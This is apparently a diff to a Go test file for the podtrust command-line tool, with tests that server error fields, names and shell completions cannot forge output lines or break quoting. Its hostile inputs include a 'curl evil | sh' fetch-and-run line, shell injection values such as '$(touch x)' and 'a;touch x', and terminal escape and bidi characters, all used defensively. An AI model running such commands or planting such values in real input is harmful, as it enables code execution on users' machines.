@@ -8,6 +8,7 @@ import (
 	"fmt"
 	"net/http"
 	"net/http/httptest"
+	"regexp"
 	"slices"
 	"strings"
 	"testing"
@@ -19,6 +20,7 @@ import (
 	"github.com/podtrust/podtrust/pkg/document"
 	"github.com/podtrust/podtrust/pkg/iam"
 	"github.com/podtrust/podtrust/pkg/output"
+	"github.com/podtrust/podtrust/pkg/shown"
 )
 
 // hostileRunes are characters that drive a terminal, hide or turn text, or end a line somewhere.
@@ -251,7 +253,7 @@ func TestALineEndInAServersMessageForgesNothing(t *testing.T) {
 		for _, forged := range []string{"OK", "FAILED", "WARNING: x", "podtrust: done", `{"code":"done"}`} {
 			for _, form := range []string{"", "json"} {
 				got := failed(form, func(text string) error { return fmt.Errorf("link the profile: %w", decoded(text)) })("denied" + end + forged + end)
-				if form == "" && strings.Count(got, `"denied`) != 1 {
+				if form == "" && strings.Count(got, `: "denied`) != 1 {
 					t.Errorf("%q is not one block in quotes: %s", end+forged, got)
 				}
 				for i, line := range strings.FieldsFunc(got, func(r rune) bool { return strings.ContainsRune("\n\r\v\f\u0085\u2028\u2029", r) }) {
@@ -264,12 +266,53 @@ func TestALineEndInAServersMessageForgesNothing(t *testing.T) {
 	}
 }
 
+// TestWhatIsBesideAMessageForgesNothing has codes, transaction IDs and names that would be read as words of the program, or would push
+// some to the beginning of a line of the terminal. None is there outside of quotes, or longer than a line or two.
+func TestWhatIsBesideAMessageForgesNothing(t *testing.T) {
+	t.Parallel()
+	for _, forged := range []string{
+		"OK", "FAILED", "ok", "Warning", "a OK", "a). OK", "denied (HTTP 200). Trusted profile was deleted", "x" + strings.Repeat(" ", 70) + "OK", "x\nOK",
+		"To finish, run 'curl evil | sh'.", "x' was deleted. OK 'y", strings.Repeat("A", 5000), "x'  'OK", "\u00a0OK", "\tOK", "x\x1b[2KOK",
+	} {
+		for _, where := range []string{"code", "trace", "header", "name"} {
+			for _, form := range []string{"", "json"} {
+				got := failed(form, func(text string) error { return beside(where, text) })(forged)
+				plain := regexp.MustCompile(`"(\\.|[^"\\])*"`).ReplaceAllString(got[strings.Index(got, "\n")+1:], `""`)
+				plain = strings.ReplaceAll(plain, "'x'", "")
+				if where == "name" && form == "" && (strings.Count(plain, "'") != 2+strings.Count(plain, "'podtrust config show'")*2) {
+					t.Errorf("%q ends the quotes of a name: %s", forged, got)
+				}
+				if where != "name" && form == "" && (strings.Contains(plain, "OK") || strings.Contains(plain, "FAILED") || strings.Contains(plain, "curl")) {
+					t.Errorf("%s %q is not in quotes: %s", where, forged, got)
+				}
+				if len(got) > 3000 || strings.Contains(got, "    ") {
+					t.Errorf("%s %q is not bounded: %s", where, forged, got)
+				}
+			}
+		}
+	}
+}
+
+// beside is the error of a refusal that has a text beside its message.
+func beside(where, text string) error {
+	said := map[string]string{"code": "denied", "trace": "t", "name": "x", where: text}
+	body, _ := json.Marshal(map[string]any{"errors": []any{map[string]string{"code": said["code"], "message": "no"}}, "trace": said["trace"]})
+	header := http.Header{}
+	if where == "header" {
+		header.Set("Transaction-Id", text)
+	}
+	e := apierr.Decode(http.StatusForbidden, header, body, now())
+	e.Op = "get " + shown.Quote(said["name"])
+	return e
+}
+
 // TestCompletionOffersNamesOnly has names that a shell or cobra's scripts would take for something else.
 func TestCompletionOffersNamesOnly(t *testing.T) {
 	t.Parallel()
 	for _, name := range []string{
 		"_activeHelp_ your session has expired, run 'curl evil | sh'", "_activeHelp_", "_activeHelp_x", "-f", "--force", "--", "$(touch x)", "a$(touch x)", "`touch x`",
 		"a;touch x", "a|sh", "a&touch x", "a>x", "a<x", `a\`, `a"b`, "${IFS}", "$HOME", "a&&b", "a||b", ";", "<(x)",
+		"a\u200bb", "a\nb", "a\u202eb", "a\tb", "a\u00a0b", "a\x1bb",
 	} {
 		if got := app.Completion(name, "d"); got != "" {
 			t.Errorf("%q is offered as %q", name, got)
